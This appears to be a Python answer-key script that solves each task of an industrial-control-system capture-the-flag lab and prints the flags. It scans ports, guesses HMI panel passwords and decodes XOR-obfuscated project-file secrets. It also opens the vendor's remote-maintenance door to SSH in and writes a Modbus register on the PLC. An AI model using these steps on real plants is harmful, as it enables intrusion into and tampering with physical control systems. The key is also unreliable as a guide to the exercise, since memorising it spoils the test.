"""Solve one task the way a team does, from the office PC; the last line printed is the answer.

Usage: vakt.py TASK. A station that has been hardened meanwhile is gone through as its own people do: with the new
password, and with the vendor's door opened for as long as it takes.
"""

import base64
import http.client
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlencode

PASSWORDS = ("operator", "Fossekall-under-brua")
SSH = ["ssh", "-p", "2222", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o",
       "LogLevel=ERROR", "leverandor@hmi"]  # fmt: skip


def kartlegging() -> str:
    scan = run(["nmap", "-sT", "-n", "-p1-2300", "--open", "historikk"])
    return found(r"^(\d+)/tcp +open", scan)


def panelet() -> str:
    return found(r"NCR\{[^}]+\}", ask(signed_in(), "GET", "/vedlikehold"))


def prosjektfila() -> str:
    with vendor() as shell:
        return shell("cat flagg.txt").strip()


def merkeskiltet() -> str:
    return run(["modbus", "historikk", "tekst", "200", "32"]).strip()


def konfigurasjonen() -> str:
    password = secret(project(signed_in()), "programmering")
    with vendor() as shell:
        return found(r"NCR\{[^}]+\}", shell(f"PLC_PASSORD='{password}' plckonfig vis"))


def proveskriving() -> str:
    number = run(["modbus", "historikk", "innreg", "100", "1"]).split()[1]
    with vendor() as shell:
        shell(f"modbus plc skriv-reg 90 {number}")
    return run(["modbus", "historikk", "tekst", "240", "32"]).strip()


def fremmed() -> str:
    printer = socket.gethostbyname("skriver")
    page = ask(signed_in(), "GET", "/hendelser")
    return "skriver" if f"<td>{printer}</td>" in page else f"nobody came from {printer}"


def ask(cookie: str, method: str, path: str, **form: str) -> str:
    """The panel's page."""
    return asked(cookie, method, path, form)[0]


def asked(cookie: str, method: str, path: str, form: dict[str, str]) -> tuple[str, str]:
    """The panel's page, and the cookie it sets."""
    connection = http.client.HTTPConnection("hmi", 8080, timeout=10)
    headers = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie}
    connection.request(method, path, urlencode(form) if form else None, headers)
    answer = connection.getresponse()
    return answer.read().decode(), (answer.getheader("Set-Cookie") or "").split(";")[0]


def signed_in() -> str:
    """A session's cookie."""
    for password in PASSWORDS:
        _, cookie = asked("", "POST", "/inn", {"bruker": "operator", "passord": password})
        if cookie:
            return cookie
    raise SystemExit("no password signs in")


def project(cookie: str) -> str:
    return ask(cookie, "GET", "/storjuvet.prosjekt")


def secret(text: str, name: str) -> str:
    """A password of the project file: base64, and XOR with the key that stands in the same file."""
    key = int(found(r'nokkel="0x([0-9A-Fa-f]+)"', text), 16)
    hidden = found(rf'(?s)navn="{name}".*?passord="([^"]+)"', text)
    return bytes(byte ^ key for byte in base64.b64decode(hidden)).decode()


@contextmanager
def vendor() -> Iterator:
    """Commands on the engineering workstation, through the vendor's door; a closed door is closed again afterwards."""
    cookie = signed_in()
    password = secret(project(cookie), "fjernvedlikehold")
    closed = 'name="apen" value="1"' in ask(cookie, "GET", "/vedlikehold")
    if closed:
        ask(cookie, "POST", "/dor", apen="1")
    try:
        yield lambda command: run(["sshpass", "-p", password, *SSH, command])
    finally:
        if closed:
            ask(cookie, "POST", "/dor", apen="0")


def run(command: list[str]) -> str:
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=20).stdout


def found(pattern: str, text: str) -> str:
    """The pattern's first group, or all it matched; an error that shows the text when it is not there."""
    match = re.search(pattern, text, re.MULTILINE)
    if match is None:
        raise SystemExit(f"did not find {pattern} in:\n{text[:2000]}")
    return match[match.lastindex or 0]


TASKS = (kartlegging, panelet, prosjektfila, merkeskiltet, konfigurasjonen, proveskriving, fremmed)

if __name__ == "__main__":
    print({task.__name__: task for task in TASKS}[sys.argv[1]]())
